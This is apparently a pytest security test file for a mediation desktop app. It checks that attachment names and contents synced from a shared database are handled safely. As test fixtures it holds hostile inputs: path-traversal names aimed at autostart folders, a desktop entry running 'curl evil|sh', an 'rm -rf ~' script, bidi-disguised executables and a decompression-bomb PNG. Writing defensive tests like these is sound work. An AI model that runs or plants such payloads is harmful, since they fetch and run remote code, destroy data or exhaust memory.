"""Holes 3 and 11 and the temp copies: attachment names and types from the central
database are untrusted, a hostile file cannot take the app's memory or time, and
copies opened with 打开 do not outlive the app.

An attachment row can be written by any colleague (a mediator login with psql, or a
workstation changed to push what it likes). The tests write such rows the way sync
delivers them, then use the real 打开 / 另存为 / preview paths.
"""

from __future__ import annotations

import io
import os
import struct
import threading
import uuid
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PySide6.QtCore import Qt
from PySide6.QtGui import QDesktopServices
from PySide6.QtWidgets import QFileDialog

from app.services import evidence, previews, tempfiles
from app.services import sync as sync_service
from app.store.models import Attachment
from app.ui.case.case_pane import CasePane, Tab
from app.ui.tasks import TaskRunner
from tests.conftest import complaint_form
from tests.services.test_evidence import EXE, pdf_bytes, png_bytes
from tests.support.hostile_pdf import hostile_pdf, slow_pdf
from tests.ui.conftest import seed_cases
from tests.ui.test_case_view import open_view

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 300
BIDI = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "付款凭证\u202egpj.exe" shows as 付款凭证exe.jpg
_BIDI_AND_CONTROL = {chr(c) for c in range(0x20)} | {"\x7f", "\u200e", "\u200f", "\u061c"} \
    | {chr(c) for c in range(0x202A, 0x202F)} | {chr(c) for c in range(0x2066, 0x206A)}
_EXECUTABLE = {"exe", "bat", "cmd", "com", "scr", "js", "vbs", "msi", "lnk", "desktop", "sh",
               "jar", "ps1", "pif", "hta", "reg", "cpl", "url"}


# ---------------------------------------------------------------- fixtures


@pytest.fixture
def systmp(tmp_path, monkeypatch) -> Path:
    """The computer's temp folder for this test: everything written there is seen."""
    import tempfile

    folder = tmp_path / "systmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


@pytest.fixture
def runner():
    r = TaskRunner()
    yield r
    assert r.shutdown(), "workers still running after the test"


@pytest.fixture
def opened_urls(monkeypatch) -> list[str]:
    """What 打开 hands to the computer (nothing is really opened)."""
    urls: list[str] = []
    monkeypatch.setattr(QDesktopServices, "openUrl",
                        staticmethod(lambda url: urls.append(url.toLocalFile()) or True))
    return urls


def synced_row(store, case_id: uuid.UUID, name: str, data: bytes, mime: str, *,
               author: str = "wangfang") -> uuid.UUID:
    """A row as sync writes one from the central database: the bytes under their hash,
    the name and type as the colleague wrote them (no check on the way)."""
    sha = sync_service.files_of(store).put_bytes(data)
    with store.unit_of_work() as s:
        row = Attachment(case_id=case_id, sha256=sha, filename=name, size=len(data),
                         mime_type=mime, author=author)
        s.add(row)
        s.flush()
        return row.id


def files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file() or p.is_symlink()}


def open_in_tab(qtbot, view: CasePane, attachment_id: uuid.UUID, urls: list[str]) -> str:
    """Select the attachment and press 打开; the error line's text when it is refused."""
    tab = view.evidence
    with qtbot.waitSignal(tab.evidence_loaded, timeout=10_000):
        tab.reload()
    with qtbot.waitSignal(tab.preview_shown, timeout=20_000):
        tab.select(attachment_id)
    before = len(urls)
    tab.error.hide()
    qtbot.mouseClick(tab.open_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: len(urls) > before or tab.error.isVisible(), timeout=10_000)
    return tab.error.text() if tab.error.isVisible() else ""


# ---------------------------------------------------------------- names


@pytest.mark.parametrize(("stored", "shown"), [
    ("../x/evil.desktop", "evil.desktop"),
    ("../../../../home/zhangmin/.config/autostart/evil.desktop", "evil.desktop"),
    ("..\\..\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat",
     "a.bat"),
    ("C:\\Windows\\System32\\evil.exe", "evil.exe"),
    ("C:evil.exe", "evil.exe"),
    ("\\\\server\\share\\合同.pdf", "合同.pdf"),
    ("/etc/passwd", "passwd"),
    ("..", "附件"),
    ("..\\..", "附件"),
    ("", "附件"),
    ("合同.pdf:Zone.Identifier", "合同.pdf_Zone.Identifier"),
])
def test_a_name_in_either_separator_style_is_one_name_without_its_path(stored, shown):
    from app.core.filenames import display_name

    assert display_name(stored) == shown


def test_bidi_overrides_and_control_characters_are_removed():
    from app.core.filenames import display_name, safe_file_name

    assert display_name(f"付款凭证{BIDI}gpj.exe") == "付款凭证gpj.exe"  # shows what it is
    assert display_name("收据\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\u200e\u200f"
                        "\u061c.jpg") == "收据.jpg"
    assert display_name("a\x00b\nc\r\td\x1b[31m\x7f\x85.jpg") == "abcd[31m.jpg"
    # the copy's extension is the content's: the .exe the override hid is gone
    assert safe_file_name(f"付款凭证{BIDI}gpj.exe", "jpg") == "付款凭证gpj.jpg"
    # emoji joined with ZWJ stay whole
    assert display_name("聊天记录👨\u200d👩\u200d👧.png") == "聊天记录👨\u200d👩\u200d👧.png"


@pytest.mark.parametrize("stored", ["CON", "con.jpg", "NUL.txt", "Com1.pdf", "LPT9.png",
                                    "aux .doc", "PRN", "CONIN$"])
def test_windows_device_names_never_name_a_file(stored):
    from app.core.filenames import display_name, safe_file_name

    for name in (display_name(stored), safe_file_name(stored, "jpg")):
        stem = name.split(".")[0].rstrip(" ").upper()
        assert stem not in {"CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "CONIN$"}, name


def test_a_name_over_255_bytes_is_cut_between_characters_and_keeps_its_extension():
    from app.core.filenames import display_name, safe_file_name

    long = "上海悦动健身预付卡退费纠纷" * 20 + ".jpg"  # 780+ bytes of UTF-8
    for name in (display_name(long), safe_file_name(long, "jpg")):
        data = name.encode("utf-8")
        assert len(data) <= 255
        assert data.decode("utf-8") == name  # no half character
        assert name.endswith(".jpg") and name.startswith("上海悦动健身")
    assert display_name("a" * 300 + "...   ").endswith("a") and \
        len(display_name("a" * 300)) == 255


@settings(max_examples=400, deadline=None)
@given(st.text(min_size=0, max_size=400))
def test_any_name_becomes_one_harmless_file_name(stored):
    from app.core.filenames import display_name, safe_file_name

    for name in (display_name(stored), safe_file_name(stored, "pdf")):
        assert name and len(name.encode("utf-8")) <= 255
        assert not set(name) & (_BIDI_AND_CONTROL | set('/\\:<>"|?*'))
        assert name not in (".", "..") and not name.endswith((".", " "))
    assert safe_file_name(stored, "pdf").endswith(".pdf")


# ---------------------------------------------------------------- 打开: names and content


@pytest.fixture
def view(qtbot, ws, systmp, runner) -> CasePane:
    seeded = seed_cases(ws)
    v = open_view(qtbot, ws, runner, seeded.first)
    v.tabs.setCurrentIndex(Tab.EVIDENCE)
    return v


@pytest.mark.parametrize("name", [
    "../evil.desktop",
    "../../evil.desktop",
    "..\\..\\Startup\\evil.bat",
    "C:\\Users\\Public\\evil.exe",
])
def test_open_writes_nothing_outside_the_private_temp_folder(qtbot, view, ws, systmp,
                                                             opened_urls, name):
    row = synced_row(ws.store, view.case.id, name, png_bytes(), "image/png")

    assert open_in_tab(qtbot, view, row, opened_urls) == ""

    (copy,) = [Path(u) for u in opened_urls]
    assert {p for p in files_under(systmp) if p.name != tempfiles.LOCK_NAME} == {copy}
    assert copy.name == "evil.png" and "\\" not in copy.name
    private = view.temp.path
    assert private is not None and copy.parent.parent == private
    assert (private.stat().st_mode & 0o777) == 0o700


@pytest.mark.parametrize(("content", "label"), [(ELF, "ELF"), (EXE, "MZ/PE")])
def test_a_program_labelled_as_a_photo_is_not_opened_nor_saved(qtbot, view, ws, systmp,
                                                               opened_urls, monkeypatch,
                                                               content, label):
    row = synced_row(ws.store, view.case.id, "付款凭证.jpg", content, "image/jpeg")

    message = open_in_tab(qtbot, view, row, opened_urls)

    assert opened_urls == [], f"{label} handed to the computer"
    assert "为安全起见" in message and "可执行程序" in message and "付款凭证.jpg" in message
    assert {p for p in files_under(systmp) if p.name != tempfiles.LOCK_NAME} == set()
    # 另存为 refuses too, before asking where
    asked: list[str] = []
    monkeypatch.setattr(QFileDialog, "getSaveFileName",
                        lambda *a, **k: asked.append(a[2]) or ("", ""))
    tab = view.evidence
    with qtbot.waitSignal(tab.file_refused, timeout=10_000):
        qtbot.mouseClick(tab.save_button, Qt.MouseButton.LeftButton)
    assert asked == [] and "为安全起见" in tab.error.text()


@pytest.mark.parametrize("name", ["付款凭证.exe", f"付款凭证{BIDI}gpj.exe", "收据.desktop",
                                  "收据.jar", "收据.bat", "收据"])
def test_a_name_that_says_program_opens_as_what_the_bytes_are(qtbot, view, ws, opened_urls,
                                                             name):
    row = synced_row(ws.store, view.case.id, name, png_bytes(), "image/jpeg")

    assert open_in_tab(qtbot, view, row, opened_urls) == ""

    (copy,) = [Path(u) for u in opened_urls]
    assert copy.suffix == ".png"  # from the bytes: neither the name nor the stored type
    assert copy.name.split(".")[-1] not in _EXECUTABLE
    assert BIDI not in copy.name
    assert not os.access(copy, os.W_OK) or os.geteuid() == 0  # read-only copy


def test_a_desktop_entry_opens_as_text_not_as_a_launcher(qtbot, view, ws, opened_urls):
    entry = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil|sh'\n"
    row = synced_row(ws.store, view.case.id, "../x/evil.desktop", entry,
                     "application/x-desktop")

    assert open_in_tab(qtbot, view, row, opened_urls) == ""

    (copy,) = [Path(u) for u in opened_urls]
    assert copy.name == "evil.txt"


def test_names_are_shown_without_bidi_overrides(qtbot, view, ws):
    synced_row(ws.store, view.case.id, f"付款凭证{BIDI}gpj.exe", png_bytes(), "image/png")
    tab = view.evidence
    with qtbot.waitSignal(tab.evidence_loaded, timeout=10_000):
        tab.reload()
    item = tab.list.topLevelItem(0)
    assert item.text(0) == "付款凭证gpj.exe"
    assert BIDI not in item.toolTip(0)
    assert all(BIDI not in v.filename for v in evidence.list_evidence(ws, view.case.id))


# ---------------------------------------------------------------- at attach time


@pytest.fixture
def case_id(ws):
    from app.services import cases

    created, _ = cases.intake_work_order(ws, complaint_form())
    return created


def _refused(ws, case_id, path) -> evidence.EvidenceError:
    with pytest.raises(evidence.EvidenceError) as err:
        evidence.attach_file(ws, case_id, path)
    return err.value


def _stored_files(ws) -> set[Path]:
    root = sync_service.files_of(ws.store).root
    return files_under(root) if root.exists() else set()


def test_a_symlink_is_refused_at_attach(ws, case_id, tmp_path):
    real = tmp_path / "real.png"
    real.write_bytes(png_bytes())
    secret = tmp_path / "id_rsa"
    secret.write_bytes(b"-----BEGIN OPENSSH PRIVATE KEY-----\n" * 3)
    for target, name in ((real, "照片.png"), (secret, "笔录.txt")):
        link = tmp_path / name
        link.symlink_to(target)
        error = _refused(ws, case_id, link)
        assert error.problem.value == "link", error
    assert _stored_files(ws) == set()
    assert evidence.list_evidence(ws, case_id) == []


def test_a_file_swapped_for_a_link_between_look_and_open_is_refused(ws, case_id, tmp_path,
                                                                    monkeypatch):
    path = tmp_path / "照片.png"
    path.write_bytes(png_bytes())
    other = tmp_path / "other.png"
    other.write_bytes(png_bytes(80, 40))
    real_open = os.open

    def swap_then_open(name, *args, **kwargs):
        if Path(name) == path:  # the attacker wins the race
            path.unlink()
            path.symlink_to(other)
        return real_open(name, *args, **kwargs)

    monkeypatch.setattr(os, "open", swap_then_open)
    assert _refused(ws, case_id, path).problem.value == "link"
    assert _stored_files(ws) == set()


def _zip(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return buf.getvalue()


JAR = _zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: Evil\n",
            "Evil.class": b"\xca\xfe\xba\xbe" + b"\x00" * 40})
CLASSES_ONLY = _zip({"com/evil/Main.class": b"\xca\xfe\xba\xbe" + b"\x00" * 40})
DOCX = _zip({"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>",
             "word/document.xml": b"<w:document/>"})


@pytest.mark.parametrize(("name", "data"), [("和解协议.docx", JAR), ("流水.xlsx", JAR),
                                            ("演示.pptx", CLASSES_ONLY)])
def test_a_jar_renamed_as_an_office_file_is_refused_as_a_program(ws, case_id, tmp_path,
                                                                  name, data):
    path = tmp_path / name
    path.write_bytes(data)
    error = _refused(ws, case_id, path)
    assert error.problem is evidence.EvidenceProblem.DISALLOWED
    assert error.refusal is evidence.Refusal.DISGUISED_EXECUTABLE
    assert _stored_files(ws) == set()


def test_an_office_file_must_really_be_office_open_xml(ws, case_id, tmp_path):
    plain = tmp_path / "合同.docx"
    plain.write_bytes(_zip({"readme.txt": b"hello"}))
    assert _refused(ws, case_id, plain).refusal is evidence.Refusal.MISMATCH
    sheet_as_doc = tmp_path / "账单.docx"
    sheet_as_doc.write_bytes(_zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b""}))
    assert _refused(ws, case_id, sheet_as_doc).refusal is evidence.Refusal.MISMATCH
    real = tmp_path / "调解申请.docx"
    real.write_bytes(DOCX)
    kept = evidence.attach_file(ws, case_id, real).evidence
    assert kept.filename == "调解申请.docx" and kept.kind.value == "document"


def test_a_jar_synced_in_as_a_docx_is_not_opened(qtbot, view, ws, opened_urls):
    row = synced_row(ws.store, view.case.id, "和解协议.docx", JAR,
                     "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    message = open_in_tab(qtbot, view, row, opened_urls)
    assert opened_urls == [] and "可执行程序" in message


# ---------------------------------------------------------------- end to end, through sync


def test_a_hostile_row_synced_from_a_colleague_opens_safely(qtbot, pg_desks, systmp,
                                                            opened_urls):
    """A colleague in the same office pushes rows with hostile names and types through
    the central PostgreSQL; the victim's workstation syncs them and presses 打开."""
    from app.services import cases

    victim = pg_desks("mdt_zhangmin")
    case_id, _ = cases.intake_work_order(victim.ws, complaint_form(
        source_ticket="13101152026030299"))
    victim.sync()
    attacker = pg_desks("mdt_wangfang")
    program = synced_row(attacker.store, case_id, f"../../x/付款凭证{BIDI}gpj.exe", ELF,
                         "image/jpeg", author=attacker.login)
    photo = synced_row(attacker.store, case_id, "..\\..\\Startup\\evil.desktop", png_bytes(),
                       "application/x-desktop", author=attacker.login)
    attacker.sync()
    victim.sync()
    assert {v.id for v in evidence.list_evidence(victim.ws, case_id)} == {program, photo}

    runner = TaskRunner()
    try:
        view = open_view(qtbot, victim.ws, runner, case_id)
        view.tabs.setCurrentIndex(Tab.EVIDENCE)
        names = sorted(v.filename for v in view.evidence.items)
        assert names == ["evil.desktop", "付款凭证gpj.exe"]

        message = open_in_tab(qtbot, view, program, opened_urls)
        assert opened_urls == [] and "可执行程序" in message

        assert open_in_tab(qtbot, view, photo, opened_urls) == ""
        (copy,) = [Path(u) for u in opened_urls]
        assert copy.name == "evil.png" and copy.parent.parent == view.temp.path
        written = {p for p in files_under(systmp) if p.name != tempfiles.LOCK_NAME}
        assert written == {copy}
    finally:
        assert runner.shutdown()


# ---------------------------------------------------------------- previews (item 11)


def huge_png(width: int = 11_000, height: int = 10_800) -> bytes:
    """A 480 KB PNG of 119 million RGBA pixels: 475 MB once decoded."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    packer = zlib.compressobj(9)
    row = b"\x00" + b"\xc8\x0a\x0a\xff" * width
    body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body)
            + chunk(b"IEND", b""))


@pytest.fixture
def pool():
    p = previews.PreviewPool(seconds=3.0)
    yield p
    p.close()


def test_the_hostile_pdf_fails_within_the_limits_while_another_preview_goes_on(pool):
    """The PDF of the report: 5 million drawing operations in 130 KB. Whether it runs
    into the memory cap or the time limit first depends on the machine: either way it
    is stopped, and previews asked for meanwhile are drawn."""
    hostile = hostile_pdf()
    assert len(hostile) < 200_000
    outcome: list[BaseException | object] = []

    def render_hostile() -> None:
        try:
            outcome.append(pool.pdf_page(hostile, 0, max_side=2048, white=False))
        except previews.PreviewFailed as exc:
            outcome.append(exc)

    worker = threading.Thread(target=render_hostile)
    worker.start()
    try:
        # A normal PDF and a picture are drawn while the hostile page is still going.
        page = pool.pdf_page(pdf_bytes(), 0, max_side=800, white=False)
        picture = pool.image(png_bytes(400, 200), 2048)
        still_going = worker.is_alive() and not outcome
    finally:
        worker.join(timeout=60)
    assert page.width > 0 and page.pages == 1
    assert (picture.width, picture.height) == (400, 200)
    assert still_going, "the normal previews waited for the hostile one"
    (result,) = outcome
    assert isinstance(result, previews.PreviewFailed)
    assert result.problem in (previews.PreviewProblem.TIME, previews.PreviewProblem.MEMORY)
    # The overrunning worker was stopped: the next preview still works.
    assert pool.pdf_page(pdf_bytes(), 0, max_side=400).width > 0


@pytest.mark.slow
def test_a_pdf_that_computes_for_minutes_is_stopped_at_the_time_limit(pool):
    with pytest.raises(previews.PreviewFailed) as err:
        pool.pdf_page(slow_pdf(), 0, max_side=2048, white=False)
    assert err.value.problem is previews.PreviewProblem.TIME
    assert pool.started == 1 and pool._idle == []  # the worker was stopped, not kept
    assert pool.pdf_page(pdf_bytes(), 0, max_side=400).width > 0


def test_a_picture_that_needs_more_memory_than_the_cap_fails_in_the_worker(pool):
    with pytest.raises(previews.PreviewFailed) as err:
        pool.image(huge_png(), 2048)
    assert err.value.problem is previews.PreviewProblem.MEMORY
    assert pool.image(png_bytes(), 2048).width == 40  # the app and the pool go on


@pytest.mark.skipif(not Path("/proc/self/limits").exists(), reason="Linux /proc")
def test_the_worker_runs_under_the_memory_cap(pool):
    pool.image(png_bytes(), 64)
    (worker,) = pool._idle
    limits = Path(f"/proc/{worker.proc.pid}/limits").read_text()
    line = next(x for x in limits.splitlines() if x.startswith("Max address space"))
    assert line.split()[3:5] == [str(pool.memory_bytes)] * 2
    core = next(x for x in limits.splitlines() if x.startswith("Max core file size"))
    assert core.split()[4] == "0"


def test_the_hostile_pdf_shows_cannot_preview_and_the_tab_goes_on(qtbot, view, ws,
                                                                   monkeypatch):
    small = previews.PreviewPool(seconds=2.0)
    monkeypatch.setattr(previews, "default_pool", lambda: small)
    try:
        bad = synced_row(ws.store, view.case.id, "发票.pdf", slow_pdf(), "application/pdf")
        good = synced_row(ws.store, view.case.id, "合同.pdf", pdf_bytes(), "application/pdf")
        tab = view.evidence
        with qtbot.waitSignal(tab.evidence_loaded, timeout=10_000):
            tab.reload()
        with qtbot.waitSignal(tab.preview_shown, timeout=30_000) as shown:
            tab.select(bad)
        assert shown.args[0].id == bad
        assert tab.preview_stack.currentIndex() == 1
        assert "无法预览" in tab.info_text.text() and "2 秒" in tab.info_text.text()
        assert tab.open_button.isEnabled()  # the rest of the tab still works
        with qtbot.waitSignal(tab.preview_shown, timeout=30_000):
            tab.select(good)
        qtbot.waitUntil(lambda: tab.preview_stack.currentWidget() is tab.picture)
        assert not tab.picture.pixmap().isNull()
    finally:
        small.close()


def test_a_final_documents_hostile_pdf_is_rasterised_under_the_limits_too(monkeypatch):
    from app.ui.operations import documents as doc_ops

    small = previews.PreviewPool(seconds=2.0)
    monkeypatch.setattr(previews, "default_pool", lambda: small)
    try:
        with pytest.raises(previews.PreviewFailed) as err:
            doc_ops.rasterise(slow_pdf(), 96)
        assert err.value.problem is previews.PreviewProblem.TIME
        images, sizes = doc_ops.rasterise(pdf_bytes(), 72)
        assert len(images) == 1 and sizes == [pytest.approx((595.3, 841.9), abs=0.1)]
    finally:
        small.close()


# ---------------------------------------------------------------- temp copies


def test_copies_are_removed_when_the_window_closes(qtbot, ws, systmp, opened_urls):
    from app.ui.main_window import MainWindow

    seeded = seed_cases(ws)
    runner = TaskRunner()
    try:
        window = MainWindow(ws, runner, store_path=ws.store.path, remember=False)
        qtbot.addWidget(window)
        row = synced_row(ws.store, seeded.first, "身份证正面.png", png_bytes(), "image/png")
        with qtbot.waitSignal(window.settled, timeout=10_000):
            window.show()
        with qtbot.waitSignal(window.case_view.history_loaded, timeout=10_000):
            window.case_view.load(seeded.first)
        window.case_view.tabs.setCurrentIndex(Tab.EVIDENCE)
        open_in_tab(qtbot, window.case_view, row, opened_urls)
        (copy,) = [Path(u) for u in opened_urls]
        assert copy.is_file() and copy.is_relative_to(systmp)

        window.close()

        assert not copy.exists()
        assert list(systmp.iterdir()) == []
    finally:
        assert runner.shutdown()


def test_copies_left_by_a_crashed_run_are_removed_at_start(qapp, tmp_path, systmp):
    from app.services.reference import open_workstation
    from app.store.database import open_store
    from app.ui import app as gui

    crashed = systmp / "mediation-desk-run-abc123"
    (crashed / "copy-1").mkdir(parents=True)
    (crashed / "copy-1" / "身份证正面.jpg").write_bytes(png_bytes())
    (crashed / tempfiles.LOCK_NAME).write_bytes(b"")
    (crashed / "copy-1" / "身份证正面.jpg").chmod(0o400)
    older = systmp / "mediation-desk-evidence-xyz"  # what 打开 left before run folders
    older.mkdir()
    (older / "合同.pdf").write_bytes(pdf_bytes())
    running = tempfiles.RunFolder()  # another instance, still running: left alone
    live_copy = running.slot() / "笔录.txt"
    live_copy.write_text("在用")
    unrelated = systmp / "someone-else"
    unrelated.mkdir()
    folder = tmp_path / "data"
    store = open_store(folder)
    try:
        seed_cases(open_workstation(store, login="zhangmin"))
    finally:
        store.close()

    try:
        assert gui.run_gui(folder, screenshot=tmp_path / "w.png") == 0

        assert not crashed.exists() and not older.exists()
        assert live_copy.exists() and unrelated.exists()
        # this run's own folder went at exit too
        assert sorted(p.name for p in systmp.iterdir()) == sorted(
            [running.path.name, "someone-else"])
    finally:
        running.close()


def test_the_stored_type_only_chooses_between_formats_the_bytes_fit():
    from app.core.evidence import NotAllowed, Refusal, format_of_content

    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600  # old Word and Excel alike
    assert format_of_content(ole, complete=True, hint_mime="application/vnd.ms-excel"
                             ).extension == "xls"
    assert format_of_content(ole, complete=True, hint_mime="application/msword"
                             ).extension == "doc"
    # a type the bytes do not fit changes nothing
    assert format_of_content(png_bytes(), complete=True, hint_mime="application/x-msdownload"
                             ).extension == "png"
    assert format_of_content(DOCX[:8192], complete=False, zip_names=zipfile.ZipFile(
        io.BytesIO(DOCX)).namelist(), hint_mime="image/jpeg").extension == "docx"
    for program in (ELF, EXE, b"#!/bin/sh\nrm -rf ~\n"):
        with pytest.raises(NotAllowed) as err:
            format_of_content(program, complete=True, hint_mime="text/plain")
        assert err.value.refusal is Refusal.DISGUISED_EXECUTABLE
    with pytest.raises(NotAllowed) as err:
        format_of_content(_zip({"a.txt": b"x"}), complete=True,
                          zip_names=["a.txt"], hint_mime="application/zip")
    assert err.value.refusal is Refusal.UNSUPPORTED
